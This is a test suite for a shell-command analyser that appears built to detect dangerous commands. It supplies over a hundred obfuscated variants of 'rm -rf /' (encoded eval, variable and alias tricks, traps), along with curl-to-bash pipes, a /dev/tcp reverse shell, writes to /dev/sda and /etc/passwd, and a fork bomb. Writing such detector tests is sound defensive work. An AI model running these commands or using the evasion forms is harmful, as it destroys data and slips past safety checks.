"""Which commands the reader finds in a script, however they are hidden."""

import pytest

from vigil.guard.program import UNRESOLVED, Command, Program, Source
from vigil.guard.shell import read_shell

ANY = "?"
"""Stands for what only a run could tell."""


def words(program: Program) -> list[str]:
    """The commands, words apart by one blank."""
    return [" ".join(_word(w.unsplit or w.text) for w in c.words) for c in program.commands]


def _word(text: str) -> str:
    return text.replace(UNRESOLVED, ANY)


def the(name: str, script: str) -> Command:
    """The last command of this name."""
    program = read_shell(script)
    return [c for c in program.commands if c.words and c.words[0].text == name][-1]


def names(sources: tuple[Source, ...]) -> tuple[str, ...]:
    return tuple(source.name for source in sources)


@pytest.mark.parametrize(
    "script",
    [
        "rm -rf /",
        "\"rm\" '-rf' /",
        "r''m -r\"\"f /",
        "r\\m -rf \\/",
        "r\\\nm -\\\nrf /",
        "$'\\x72\\x6d' -rf /",
        "$'\\162m' $'-rf' /",
        "{rm,-rf,/}",
        "x=rm; $x -rf /",
        "x=r y=m; $x$y -rf /",
        "x='rm -rf /'; $x",
        "x=mr; ${x:1:1}${x:0:1} -rf /",
        "x=xrmx; y=${x#x}; ${y%x} -rf /",
        "x=RM; ${x,,} -rf /",
        "x=r_m; ${x/_/} -rf /",
        'a=(rm -rf /); "${a[@]}"',
        "declare -A a=([x]=rm); ${a[x]} -rf /",
        "y=rm; x=y; ${!x} -rf /",
        'set -- rm -rf /; "$@"',
        "set -- / -rf rm; $3 $2 $1",
        'f() { "$@"; }; f rm -rf /',
        'f() { local c=$1; $c -rf "$2"; }; f rm /',
        "function f { rm -rf $1; }; f /",
        'f() { g "$1"; }; g() { rm -rf $1; }; f /',
        "ls() { rm -rf /; }; ls",
        "for c in rm; do $c -rf /; done",
        "for p in / ; do rm -rf $p; done",
        "for ((i=0;i<1;i++)); do rm -rf /; done",
        "i=0; while ((i<1)); do rm -rf /; ((i++)); done",
        "if :; then rm -rf /; fi",
        "if [ -e /nothing ]; then rm -rf /; fi",
        "case x in y) rm -rf /;; esac",
        "false && rm -rf /",
        "! rm -rf /",
        "time -p rm -rf /",
        "(cat <<E; b)\n$(rm -rf /)\nE",
        "(cat <<E)\nx\nE\nrm -rf /",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "rm -rf / &",
        "coproc rm -rf /",
        "coproc name { rm -rf /; }",
        "exit; rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        'echo "${x:-$(rm -rf /)}"',
        "echo $((1 + $(rm -rf /)))",
        "echo {1..999}$(rm -rf /)",
        "x=$(rm -rf /)",
        "x=([$(rm -rf /)]=1)",
        "x[$(rm -rf /)]=1",
        "((x[$(rm -rf /)]))",
        "[[ $(rm -rf /) -eq 1 ]]",
        "[[ a =~ $(rm -rf /) ]]",
        "case $(rm -rf /) in x) ;; esac",
        "case x in $(rm -rf /)) ;; esac",
        "for x in $(rm -rf /); do :; done",
        "cat <<E\n$(rm -rf /)\nE",
        "cat <<< $(rm -rf /)",
        "cat < $(rm -rf /)",
        "cat <(rm -rf /)",
        "echo x > >(rm -rf /)",
        "eval rm -rf /",
        "eval 'rm' '-rf /'",
        "x='rm -rf'; eval \"$x /\"",
        'eval "$(echo rm -rf /)"',
        'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
        'eval "$(echo 726d202d7266202f | xxd -r -p)"',
        "eval \"$(echo '/ fr- mr' | rev)\"",
        "eval \"$(echo 'ez -es /' | tr a-z n-za-m)\"",
        "eval \"$(printf '\\x72\\x6d -rf /')\"",
        "eval \"$(echo -e '\\x72\\x6d -rf /')\"",
        "eval \"$(cat <<'E'\nrm -rf /\nE\n)\"",
        "x=$(echo rm); $x -rf /",
        "x=$(echo 'x rm' | cut -d' ' -f2); $x -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "source <(echo rm -rf /)",
        ". /dev/stdin <<< 'rm -rf /'",
        "echo 'rm -rf /' > /tmp/x; . /tmp/x",
        "echo 'rm -rf /' > /tmp/x; bash /tmp/x",
        "echo 'rm -rf /' > ./x; chmod +x x; ./x",
        "cat > /tmp/x <<'E'\nrm -rf /\nE\nsource /tmp/x",
        "trap 'rm -rf /' EXIT",
        "trap f EXIT; f() { rm -rf /; }",
        "never() { rm -rf /; }",
        "alias x='rm -rf'; shopt -s expand_aliases\nx /",
        "command eval 'rm -rf /'",
        "builtin eval 'rm -rf /'",
        "command -p eval 'rm -rf /'",
        "$(command -v rm) -rf /",
        "read -r a b <<< 'rm -rf'; $a $b /",
        "read -r a < <(echo rm); $a -rf /",
        "mapfile -t a <<< $'rm\\n-rf\\n/'; \"${a[@]}\"",
        "printf -v x %s rm; $x -rf /",
        "echo 'rm -rf /' | while read -r l; do eval \"$l\"; done",
        "${x:-rm} -rf /",
        "${x-rm} -rf ${y:=/}",
        "x=; ${x:+ls} rm -rf /",
        "rm${IFS}-rf${IFS}/",
        "rm -rf ${HOME:0:1}",
        "echo '-rf /' | xargs rm",
        "echo / | xargs -I{} rm -rf {}",
        "PS4='$(rm -rf /)'; set -x",
        "x='$(rm -rf /)'; echo \"${x@P}\"",
        "x=1 rm -rf /",
        ">/dev/null rm -rf /",
        "2>&1 rm -rf / >x <y",
        "if x; then y; else\nrm -rf /\nfi",
        "a | b | rm -rf /",
        "a |& rm -rf /",
        "a && b || rm -rf /; c",
        "while :; do break; done; rm -rf /",
        "until rm -rf /; do :; done",
        "select x in a; do rm -rf /; done",
        "# nothing\nrm -rf / # but this",
        "rm -rf /;#",
        "echo a#; rm -rf /",
    ],
)
def test_a_command_is_found_however_it_is_hidden(script: str) -> None:
    assert "rm -rf /" in words(read_shell(script))


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("", []),
        ("# rm -rf /", []),
        ("x=1", []),
        ("echo 'rm -rf /'", ["echo rm -rf /"]),
        ("echo '#' \"$(:)\" # rm", [":", "echo # "]),
        ("cat <<'E'\n$(rm)\nE", ["cat"]),
        ("kubectl get pods -n $ns", ["kubectl get pods -n ?"]),
        ("cat /proc/$pid/status", ["cat /proc/?/status"]),
        ("ls ~/.ssh $HOME/.ssh", ["ls ~/.ssh ~/.ssh"]),
        ("ls *.log", ["ls *.log"]),
        ('for f in /var/log/*.log; do tail "$f"; done', ["tail /var/log/?.log"]),
        ("$(which rm) x", ["which rm", "/usr/bin/rm x"]),
        ("$unknown x", ["? x"]),
        ("x=a; if y; then x=b; fi; z $x", ["y", "z ?"]),
        ('x=a; y && x=b; z "$x"', ["y", "z ?"]),
        ('x=a; while y; do x=b$x; done; z "$x"', ["y", "z ?"]),
        ("f() { return; x=rm; }; x=ls; f; $x", ["return", "ls"]),
        ("x=$(curl u); $x", ["curl u", "?"]),
        ("(x=rm); $x", ["?"]),
        ("x=rm | y; $x", ["y", "?"]),
        ("for i in 1 2; do ls $i; done", ["ls 1", "ls 2"]),
        ("for i in 1 2; do ls; done", ["ls"]),
        ("sudo -u x rm y", ["sudo -u x rm y"]),
        ("export A=1 B", ["export B A=1"]),
    ],
)
def test_what_is_said(script: str, said: list[str]) -> None:
    assert words(read_shell(script)) == said


@pytest.mark.parametrize(
    "script",
    [
        "if true; then rm",
        "echo 'never closed",
        "rm )",
        'eval "$unknown"',
        "x='a[$(rm)]'; ((x))",
        "x='a[$(rm)]'; [[ x -eq 1 ]]",
        "printf -v 'a[$(rm)]' x",
        "x='a[$(rm)]'; echo ${!x}",
        "declare -n x=y",
        "BASH_ALIASES[ls]=rm; ls",
        'declare "$unknown"=1',
        "f() { f; }; f",
        "echo ${unknown@P}",
        "mapfile -C rm -c 1 a <<< x",
        "echo \ufffc",
        "ls\0rm",
        "$'\ud800\\n'",
        "set -o posix",
        "set +B; ls {a,b}",
        "shopt -s failglob",
        "POSIXLY_CORRECT=1",
        "a=(b){ ls",
        "x='d e'; ls ${x^$${y}}; rm }",
        "x='a[$(rm)]'; [[ -v $x ]]",
        "x='a[$(rm)]'; test -v \"$x\"",
        "declare -a 'x=($(rm))'",
    ],
)
def test_what_cannot_be_followed_is_told(script: str) -> None:
    assert read_shell(script).unresolved


def test_pipes_tell_what_is_read_and_who_wrote_it() -> None:
    bash = the("bash", "echo bHM= | base64 -d | bash")
    assert bash.stdin is not None
    assert (bash.stdin.text, names(bash.fed_by)) == ("ls", ("echo", "base64"))
    assert names(the("bash", "curl u | { cat; bash; }").fed_by) == ("curl",)
    unknown = the("bash", "curl u | bash").stdin
    assert unknown is not None
    assert unknown.text == UNRESOLVED
    assert the("bash", "bash").stdin is None


@pytest.mark.parametrize(
    ("script", "text"),
    [
        ("bash <<E\nls $x\nE", f"ls {UNRESOLVED}\n"),
        ("bash <<'E'\nls $x\nE", "ls $x\n"),
        ("bash <<-E\n\tls\n\tE", "ls\n"),
        ("bash <<< ls", "ls\n"),
        ("printf 'l%s' s | bash", "ls"),
        ("{ echo a; echo b; } | bash", "a\nb\n"),
        ("if x; then echo a; fi | bash", UNRESOLVED),
        ("{ echo a; y; } | bash", f"a\n{UNRESOLVED}"),
        ("{ echo a >&2; } 2>&1 | bash", "a\n"),
        ("echo a > /tmp/x; bash < /tmp/x", "a\n"),
        ("echo a > /tmp/x; change /tmp/x; bash < /tmp/x", UNRESOLVED),
        ("echo a > /tmp/x; echo b >> /tmp/x; cat /tmp/x | bash", "a\nb\n"),
        ('f() { echo "$1"; }; f a | bash', "a\n"),
        ("seq 3 | bash", "1\n2\n3\n"),
        ("echo a_b | sed 's/_/ /' | bash", "a b\n"),
        ("echo a | tee /etc/x | bash", "a\n"),
        ("exec 3<>/dev/tcp/h/1; bash <&3", UNRESOLVED),
        ("bash -i >& /dev/tcp/h/1 0>&1", UNRESOLVED),
    ],
)
def test_what_a_command_reads(script: str, text: str) -> None:
    stdin = the("bash", script).stdin
    assert stdin is not None
    assert stdin.text == text


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("ls > /dev/sda", [("/dev/sda", True, False)]),
        ("ls >> a 2> b < c", [("a", True, True), ("b", True, False), ("c", False, False)]),
        ("ls &> a", [("a", True, False)]),
        ("ls 2>&1 >&2", []),
        ("ls >| $x", [(UNRESOLVED, True, False)]),
        ('ls > "/etc/$x"', [(f"/etc/{UNRESOLVED}", True, False)]),
        ("exec 5<> /dev/tcp/h/1", [("/dev/tcp/h/1", True, True)]),
        ("> /etc/passwd", [("/etc/passwd", True, False)]),
        ("{ ls; } > a", [("a", True, False)]),
        ("while x; do y; done > a", [("a", True, False)]),
        ("f() { ls; } > a; f", [("a", True, False)]),
    ],
)
def test_files_that_are_opened(script: str, said: list[tuple[str, bool, bool]]) -> None:
    opened = [r for c in read_shell(script).commands for r in c.redirections]
    assert [(r.target.text, r.writes, r.appends) for r in opened] == said


@pytest.mark.parametrize(
    ("script", "environment"),
    [
        ("A=1 B=$x ls", {"A": "1", "B": UNRESOLVED}),
        ("export A=1; ls", {"A": "1"}),
        ("A=1; ls", {}),
        ("A=1; export A; ls", {"A": "1"}),
        ("PATH=/tmp/x:$PATH; ls", {"PATH": f"/tmp/x:{UNRESOLVED}"}),
        ("declare -x A=1; f() { ls; }; f", {"A": "1"}),
    ],
)
def test_what_a_command_finds_in_its_environment(script: str, environment: dict[str, str]) -> None:
    assert {name: word.text for name, word in the("ls", script).environment} == environment


def test_words_tell_whose_output_they_hold() -> None:
    assert names(the("bash", 'bash -c "$(curl u)"').words_from) == ("curl",)
    assert names(the("bash", 'x=$(curl u | tac); bash -c "$x"').words_from) == ("curl", "tac")
    read = the("bash", 'curl u | while read l; do bash -c "$l"; done')
    assert names(read.words_from) == ("curl",)
    assert names(the("bash", 'for l in $(curl u); do bash -c "$l"; done').words_from) == ("curl",)
    assert names(the("bash", "bash <(curl u)").words_from) == ("curl",)
    assert names(the("bash", 'x=$(curl u); x=1; bash -c "$x"').words_from) == ()


def test_where_a_command_runs() -> None:
    def directory(script: str) -> str | None:
        found = the("rm", script).directory
        return None if found is None else found.text

    assert directory("rm x") is None
    assert directory("cd /etc && rm x") == "/etc"
    assert directory("cd /etc; cd nginx; rm x") == "/etc/nginx"
    assert directory('cd "$x"; rm x') == UNRESOLVED
    assert directory("(cd /etc); rm x") is None
    assert directory("if x; then cd /etc; fi; rm x") == UNRESOLVED


def test_what_never_ends_is_marked() -> None:
    assert the("echo", "while :; do echo x >> f; done").endless
    assert the("echo", "while true; do echo x; sleep 1; done").endless
    assert the("echo", "for ((;;)); do echo; done").endless
    assert not the("echo", "while true; do echo x; if y; then break; fi; done").endless
    assert not the("echo", "while x; do echo x; done").endless
    assert read_shell("x=a; while :; do x+=$x; done").unresolved[0].exhausts
    assert not read_shell("while :; do n=$((n + 1)); sleep 1; done").unresolved
    bomb = read_shell(":(){ :|:& };:")
    assert all(part.exhausts for part in bomb.unresolved)
    assert bomb.unresolved


def test_background_is_told() -> None:
    assert the("ls", "ls &").background
    assert the("ls", "{ ls; } & x").background
    assert not the("x", "{ ls; } & x").background


def test_a_span_is_where_the_command_stands() -> None:
    script = "é=1\n  ls -l\t# x\nif a; then\n\tkill \\\n 1; fi\neval 'rm x'"
    spans = {c.words[0].text: c.span for c in read_shell(script).commands}
    texts = {name: script[span.start : span.end] for name, span in spans.items()}
    assert texts["ls"] == "ls -l"
    assert texts["kill"] == "kill \\\n 1"
    assert texts["rm"] == "eval 'rm x'"
    assert [spans[name].line for name in ("ls", "a", "kill", "rm")] == [2, 3, 4, 6]
